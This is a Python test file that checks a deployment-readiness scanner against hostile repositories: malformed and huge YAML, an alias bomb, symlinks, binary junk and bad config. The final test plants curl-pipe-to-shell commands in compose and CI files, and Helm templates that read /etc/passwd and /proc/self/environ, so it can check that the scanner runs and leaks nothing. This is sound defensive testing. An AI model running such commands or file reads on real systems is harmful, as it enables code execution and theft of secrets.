"""End-to-end robustness: `deploycheck scan` (every check, every report format) on hostile repositories.

For each adversarial repository (tests/fixtures/robustness/cases.py builds them in tmp dirs; big and
binary files are generated, never committed): no traceback anywhere, no check "crashed:", the
offending file is named in a non-pass finding, the exit code is 0/1, and all 33 items are still
reported. An invalid .deploycheck.yaml is a usage error: exit 2 naming the key and line.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from tests.fixtures.robustness.cases import CASES, DEPLOYMENT, WRONG_TYPES
from tests.helpers import mutated_text, shared_dir, write

from deploycheck.cli import main
from deploycheck.config import Config
from deploycheck.context import Options
from deploycheck.engine import run

ITEMS = 33
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMATS = ("json", "terminal", "sarif", "junit", "markdown", "html")
NOT_PASS = ("error", "skipped", "fail", "warn", "manual")


@dataclass
class Scan:
    code: int
    stdout: str
    stderr: str
    reports: dict[str, str]  # format -> rendered text

    @property
    def report(self) -> dict[str, Any]:
        data: dict[str, Any] = json.loads(self.reports["json"])
        return data

    @property
    def findings(self) -> list[dict[str, Any]]:
        return [f for item in self.report["items"] for f in item["findings"]]


def scan_cli(root: Path, out_dir: Path, *extra: str) -> Scan:
    """`deploycheck scan ROOT` with every report format written to files, stdout/stderr captured."""
    args = ["scan", str(root), "--no-progress", *extra]
    for fmt in FORMATS:
        args += ["-f", fmt, "-o", str(out_dir / f"report.{fmt}")]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(args)
    reports = {fmt: (out_dir / f"report.{fmt}").read_text(encoding="utf-8") for fmt in FORMATS
               if (out_dir / f"report.{fmt}").exists()}
    return Scan(code, out.getvalue(), err.getvalue(), reports)


def assert_robust(result: Scan) -> None:
    """The contract every scan keeps, whatever the input."""
    assert result.code in (0, 1), (result.code, result.stderr)
    assert set(result.reports) == set(FORMATS), result.stderr
    for where, text in [("stdout", result.stdout), ("stderr", result.stderr), *result.reports.items()]:
        assert "Traceback (most recent call last)" not in text, f"traceback in {where}"
    crashed = [f"{f['check_id']}: {f['message']}" for f in result.findings if "crashed:" in f["message"]]
    assert not crashed, crashed
    # Every report is well-formed whatever the repository held (markup, controls, odd names) ...
    json.loads(result.reports["sarif"])
    ElementTree.fromstring(result.reports["junit"])
    assert result.reports["html"].rstrip().endswith("</html>")
    # ... and what may reach a terminal carries no control characters (ESC sequences, \r, \b).
    for fmt in ("terminal", "markdown"):
        assert not CONTROL.search(result.reports[fmt]), (fmt, CONTROL.findall(result.reports[fmt]))
    assert len(result.report["items"]) == ITEMS
    assert all(item["findings"] for item in result.report["items"])


def named(result: Scan, rel: str) -> list[dict[str, Any]]:
    """Non-pass findings that name `rel` in their message or location."""
    out = []
    for f in result.findings:
        path = (f.get("location") or {}).get("path") or ""
        if f["status"] in NOT_PASS and (rel in f["message"] or path == rel or path.startswith(rel + "/")):
            out.append(f)
    return out


# --- adversarial repositories ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def scans(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Scan, list[str]]]:
    """One full scan per case, shared by the assertions below (a scan costs up to a few seconds)."""
    done = {}
    for name, build in CASES.items():
        base = tmp_path_factory.mktemp(name)
        root = base / "repo"
        root.mkdir()
        expected = build(root)
        done[name] = (scan_cli(root, base), expected)
    return done


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_input_is_a_finding_not_a_crash(scans: dict[str, tuple[Scan, list[str]]], case: str) -> None:
    result, offenders = scans[case]
    assert_robust(result)
    for rel in offenders:
        assert named(result, rel), f"{rel} is named in no non-pass finding"


def test_what_each_bad_file_gets(scans: dict[str, tuple[Scan, list[str]]]) -> None:
    """The messages users see for the headline cases: status, file and reason."""

    def one(case: str, rel: str, check: str) -> dict[str, Any]:
        hits = [f for f in named(scans[case][0], rel) if f["check_id"] == check]
        assert hits, (case, rel, check)
        return hits[0]

    huge = one("huge-yaml", "k8s/huge.yaml", "manifests/parse")
    assert huge["status"] == "skipped" and "cap" in huge["message"]
    assert one("malformed-yaml", "k8s/bad.yaml", "manifests/parse")["status"] == "error"
    assert "cap" in one("everything-over-the-cap", "package-lock.json", "dependency-health/lockfile")["message"]
    assert "cap" in one("everything-over-the-cap", "Dockerfile", "dockerfile/present")["message"]
    assert "alias" in one("alias-bomb", "k8s/bomb.yaml", "manifests/parse")["message"]
    assert "recursive" in one("recursive-alias", "k8s/app.yaml", "manifests/parse")["message"]
    assert "binary" in one("binary-files", "k8s/blob.yaml", "manifests/parse")["message"]
    assert "binary" in one("binary-files", "Dockerfile", "dockerfile/parse")["message"]
    assert "FROBNICATE" in one("unknown-dockerfile-instructions", "Dockerfile", "dockerfile/parse")["message"]
    assert "not followed" in one("symlinks", "k8s/outside.yaml", "manifests/parse")["message"]
    assert "loop" in one("symlinks", "k8s/loop-a.yaml", "manifests/parse")["message"]
    assert "nesting" in one("deeply-nested-yaml", "k8s/deep.json", "manifests/parse")["message"]
    assert one("broken-lockfiles", "package-lock.json", "dependency-health/lockfile")["status"] == "error"
    assert one("broken-lockfiles", "poetry.lock", "dependency-health/lockfile")["status"] == "error"
    assert "syntax" in one("alembic-broken", "migrations/versions/b2_syntax.py", "migration-scripts/chain")["message"]
    assert one("invalid-openapi", "openapi.yaml", "api-docs/spec-valid")["status"] == "fail"
    assert "syntax" in one("python-syntax-error", "app/main.py", "code-comments/docstrings")["message"]
    assert one("kubernetes-wrong-types", "k8s/wrong.yaml", "manifests/schema")["status"] == "fail"
    assert "UTF-8" in one("non-utf8-file-names", "k8s/caf\ufffd.yaml", "manifests/parse")["message"]
    assert "\\x01" in one("markup-and-control-characters", "Dockerfile", "dockerfile/parse")["message"]
    chart = one("helm-render-fails", "chart", "helm-chart/renders")
    # With helm (binary or library) the failure is an error; without, the chart is `skipped`, not passed.
    assert chart["status"] in ("error", "skipped")


def test_the_scan_goes_on_past_bad_files(scans: dict[str, tuple[Scan, list[str]]]) -> None:
    """A good manifest beside a bad one is still read and judged."""
    for case in ("malformed-yaml", "huge-yaml", "alias-bomb", "symlinks", "deeply-nested-yaml"):
        result = scans[case][0]
        parsed = [f for f in result.findings if f["check_id"] == "resource-limits/requests-and-limits"
                  and "app" in f["message"]]
        assert parsed, case


def test_a_shallow_clone_says_what_it_cannot_see(scans: dict[str, tuple[Scan, list[str]]]) -> None:
    """A --depth 1 clone's only commit is a graft boundary: nothing was judged, so nothing is claimed."""
    [review] = [f for f in scans["shallow-clone"][0].findings if f["check_id"] == "code-review/reviewed-commits"]
    assert review["status"] == "skipped" and "shallow" in review["message"], review


def test_an_alembic_cycle_is_reported(scans: dict[str, tuple[Scan, list[str]]]) -> None:
    chain = [f for f in scans["alembic-broken"][0].findings if f["check_id"] == "migration-scripts/chain"]
    assert any("cycle" in f["message"] and f["status"] in ("fail", "error") for f in chain), chain


# --- permissions ------------------------------------------------------------------------------------


def test_unreadable_files_and_directories(tmp_path: Path) -> None:
    """chmod 000 files and a directory the walker cannot list: named, skipped or error, the rest goes on.

    Tests run as root, and root reads mode-000 files anyway; so the scan itself runs with the effective
    uid of `nobody` (seteuid, restored after), which is what a user without rights would see. Imports
    are warmed up by a first scan as root, because `nobody` cannot read root's Python installation.
    """
    if os.geteuid() != 0:
        pytest.skip("needs root to switch the effective uid (as a normal user chmod 000 denies anyway)")
    base = Path(tempfile.mkdtemp(prefix="deploycheck-perm-"))
    try:
        os.chmod(base, 0o777)
        root = base / "repo"
        files = {"k8s/app.yaml": DEPLOYMENT, "k8s/secret.yaml": DEPLOYMENT, "locked/hidden.yaml": DEPLOYMENT,
                 "Dockerfile": "FROM python:3.12-slim\nUSER 1000\n", "app.py": "import os\n"}
        for rel, text in files.items():
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_text(text)
        os.chmod(root / "locked", 0o755)  # the warm-up scan sees everything
        scan_cli(root, base)
        for rel in ("k8s/secret.yaml", "Dockerfile", "app.py"):
            os.chmod(root / rel, 0)
        os.chmod(root / "locked", 0)
        for fmt in FORMATS:
            (base / f"report.{fmt}").unlink()
        os.seteuid(65534)
        try:
            result = scan_cli(root, base)
        finally:
            os.seteuid(0)
        assert_robust(result)
        for rel in ("k8s/secret.yaml", "Dockerfile", "locked/"):
            hits = [f for f in named(result, rel.rstrip("/")) if f["status"] in ("error", "skipped")]
            assert hits, rel
        assert any("Permission denied" in f["message"] for f in named(result, "k8s/secret.yaml"))
        assert any(f["check_id"] == "resource-limits/requests-and-limits" and "app" in f["message"]
                   for f in result.findings)
    finally:
        for path in (root / "locked", root / "k8s/secret.yaml", root / "Dockerfile", root / "app.py"):
            if path.exists() or path.is_symlink():
                os.chmod(path, 0o755)
        import shutil

        shutil.rmtree(base, ignore_errors=True)


# --- invalid configuration: exit 2, the key and the line ------------------------------------------


@pytest.mark.parametrize(("text", "expected"), [
    ("service: x\n\nkubernetes_versoin: '1.29'\n", [":3:", "kubernetes_versoin", "kubernetes_version"]),
    ("service: x\npolicy:\n  fail_on: sometimes\n", [":3:", "policy.fail_on", "sometimes"]),
    ("service: [x\n", [":2:", "invalid YAML"]),
    ("- a\n- b\n", [":1:", "mapping"]),
    ("ignore:\n  - check: x\n    expires: notadate\n", [":3:", "ignore.0.expires"]),
    ("a: &a [*a]\n", ["recursive"]),
    ("\x00\x01binary", ["binary"]),
])
def test_invalid_config_is_exit_2_with_key_and_line(tmp_path: Path, text: str, expected: list[str]) -> None:
    (tmp_path / ".deploycheck.yaml").write_text(text, encoding="utf-8")
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["scan", str(tmp_path), "--no-progress", "-f", "json", "-o", str(tmp_path / "r.json")])
    message = err.getvalue()
    assert code == 2, message
    assert "Traceback" not in message
    assert ".deploycheck.yaml" in message
    for part in expected:
        assert part in message, (part, message)


def test_missing_path_and_config_are_usage_errors(tmp_path: Path) -> None:
    err = io.StringIO()
    undecodable = os.fsdecode(os.path.join(os.fsencode(tmp_path), b"caf\xe9"))
    os.mkdir(undecodable)
    with contextlib.redirect_stderr(err):
        assert main(["scan", undecodable]) == 2
        assert main(["scan", str(tmp_path / "nope")]) == 2
        assert main(["scan", str(tmp_path), "--config", str(tmp_path / "none.yaml")]) == 2
        (tmp_path / "file").write_text("x")
        assert main(["scan", str(tmp_path / "file")]) == 2
    assert "Traceback" not in err.getvalue()
    assert "nope" in err.getvalue() and "none.yaml" in err.getvalue() and "not valid UTF-8" in err.getvalue()


# --- real repositories: the corpus and the examples ------------------------------------------------


def _corpus_dirs() -> list[str]:
    shared = shared_dir()
    corpus = shared / "corpus" if shared else None
    return sorted(p.name for p in corpus.iterdir() if p.is_dir()) if corpus and corpus.is_dir() else []


@pytest.mark.corpus
@pytest.mark.parametrize("name", _corpus_dirs() or ["(corpus absent)"])
def test_corpus_scans_with_all_checks_without_a_crash(tmp_path: Path, name: str) -> None:
    shared = shared_dir()
    if shared is None or not (shared / "corpus" / name).is_dir():
        pytest.skip("../shared/corpus is absent")
    result = scan_cli(shared / "corpus" / name, tmp_path)
    assert_robust(result)


@pytest.mark.parametrize("name", sorted(p.name for p in (Path(__file__).parent.parent / "examples").iterdir()
                                        if p.is_dir()))
def test_examples_scan_with_all_checks_without_a_crash(tmp_path: Path, name: str) -> None:
    result = scan_cli(Path(__file__).parent.parent / "examples" / name, tmp_path)
    assert_robust(result)


# --- property-based: mutated manifests and Dockerfiles through the whole engine ---------------------

# Characters that change YAML / Dockerfile structure, plus the ones the fields are made of.
ALPHABET = ":-[]{}&*!|>'\"#%@`,?\t\n aZ019.\\/$=\x00\x85\u2028\ufeff"
YAML_SEEDS = [DEPLOYMENT, WRONG_TYPES.split("---\n")[1], """\
apiVersion: v1
kind: Service
metadata: {name: app}
spec:
  selector: {app: app}
  ports: [{port: 80, targetPort: http}]
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: app}
spec:
  rules:
    - host: app.example.com
      http:
        paths: [{path: /, pathType: Prefix, backend: {service: {name: app, port: {number: 80}}}}]
"""]
DOCKERFILE_SEEDS = ["""\
# syntax=docker/dockerfile:1
ARG BASE=python:3.12-slim
FROM ${BASE} AS build
WORKDIR /src
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt && \\
    rm -rf /root/.cache
FROM gcr.io/distroless/python3@sha256:0000000000000000000000000000000000000000000000000000000000000000
COPY --from=build /src /app
ENV PASSWORD=hunter2hunter2 PORT=8080
EXPOSE 8080/tcp
HEALTHCHECK --interval=30s CMD ["curl", "-f", "http://localhost:8080/health"]
USER 10001:10001
ENTRYPOINT ["python", "-m", "app"]
""", """\
FROM ubuntu
RUN apt-get update && apt-get install -y curl
RUN <<EOF
echo hi
EOF
ONBUILD RUN make
CMD python app.py
"""]


def _engine_on(rel: str, text: str) -> None:
    """engine.run (every static check) on a repository holding only `rel`: no exception, no crash."""
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8", errors="surrogatepass")
        result = run(root, Config(), Options())
        crashed = [f"{f.check_id}: {f.message}" for f in result.findings if "crashed:" in f.message]
        assert not crashed, crashed
        from deploycheck.reports import render

        for fmt in FORMATS:
            render(result.report, fmt)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_text(YAML_SEEDS, ALPHABET))
def test_mutated_manifests_never_crash_the_engine(text: str) -> None:
    _engine_on("k8s/app.yaml", text)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_text(DOCKERFILE_SEEDS, ALPHABET))
def test_mutated_dockerfiles_never_crash_the_engine(text: str) -> None:
    _engine_on("Dockerfile", text)


# --- everything at once -----------------------------------------------------------------------------------------

OUTSIDE_CANARY = "DC-CANARY-outside-3b9e"  # in a file beside the repository, reached only through links
PLANTED_SECRET = "DC-CANARY-planted-c71f0a"  # a literal password in the repository's own Deployment


def test_everything_hostile_at_once(tmp_path: Path) -> None:
    """One repository holding every kind of hostile input the cases above hold one at a time, plus commands a
    careless tool would run (`$(curl ...)`, `$(touch ...)` in compose and CI files) and a chart reading files
    outside itself: the scan ends in bounded time, names the bad files, runs nothing, reads nothing outside the
    root, and no report format shows the planted secret or the outside file in clear."""
    import time

    outside = tmp_path / "outside.txt"
    outside.write_text(f"TOKEN={OUTSIDE_CANARY}\n")
    marker = tmp_path / "ran"  # created by any of the planted commands if one ever ran
    root = tmp_path / "repo"
    bomb = ["apiVersion: v1", "kind: ConfigMap", "metadata: {name: lol}", 'a0: &a0 ["lol","lol","lol","lol","lol"]']
    bomb += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    write(root, {
        "k8s/app.yaml": DEPLOYMENT.replace("image:", f"env:\n            - name: DB_PASSWORD\n              value: "
                                                      f"\"{PLANTED_SECRET}\"\n          image:", 1),
        "k8s/bomb.yaml": "\n".join([*bomb, "data: {x: *a9}"]) + "\n",
        "docker-compose.yml": (f"services:\n  app:\n    image: x/app:1.0\n    command: sh -c \"$(curl -fsS "
                               f"http://127.0.0.1:9/x | sh); $(touch {marker})\"\n"
                               f"    entrypoint: [\"sh\", \"-c\", \"`touch {marker}`\"]\n"),
        ".github/workflows/ci.yml": (f"on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
                                    f"      - run: $(curl -fsS http://127.0.0.1:9/x | sh); touch {marker}\n"),
        "Makefile": f"all:\n\ttouch {marker}\n",
        "chart/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n",
        "chart/templates/cm.yaml": ("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n"
                                    "  passwd: {{ .Files.Get \"../../etc/passwd\" | quote }}\n"
                                    f"  outside: {{{{ .Files.Get \"../../{outside.name}\" | quote }}}}\n"
                                    "  environ: {{ .Files.Get \"/proc/self/environ\" | quote }}\n"),
    })
    os.symlink("/etc/passwd", root / "k8s" / "passwd.yaml")
    os.symlink(outside, root / "k8s" / "outside.yaml")
    write(root, {"linked/Chart.yaml": "apiVersion: v2\nname: linked\nversion: 0.1.0\n",
                 "linked/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: l\ndata:\n"
                                             "  x: {{ .Files.Get \"files-outside.txt\" | quote }}\n"})
    os.symlink(outside, root / "linked" / "files-outside.txt")  # a second chart, so the first one renders
    (root / "k8s" / "junk.yaml").write_bytes(bytes(range(256)) * 64)
    (root / "app").mkdir()
    (root / "app" / "junk.py").write_bytes(b"\x00\xff\xfe" * 4096)
    with open(root / "k8s" / "huge.yaml", "wb") as fh:  # 50 MB, over the 10 MB cap
        fh.write(b"# x\n" * (50 * 1024 * 1024 // 4))
    started = time.monotonic()
    result = scan_cli(root, tmp_path)
    elapsed = time.monotonic() - started
    assert_robust(result)
    assert elapsed < 120, f"took {elapsed:.0f} s"
    assert not marker.exists(), "a command from the repository ran"
    for rel in ("k8s/bomb.yaml", "k8s/junk.yaml", "k8s/huge.yaml", "k8s/passwd.yaml", "k8s/outside.yaml",
                "app/junk.py"):
        assert named(result, rel), f"{rel} is not named by any non-pass finding"
    passwd = Path("/etc/passwd").read_text(errors="replace").splitlines()[0]
    for where, text in [("stdout", result.stdout), ("stderr", result.stderr), *result.reports.items()]:
        assert PLANTED_SECRET not in text, f"planted secret in clear in {where}"
        assert OUTSIDE_CANARY not in text, f"a file outside the root reached {where}"
        assert passwd not in text, f"/etc/passwd reached {where}"
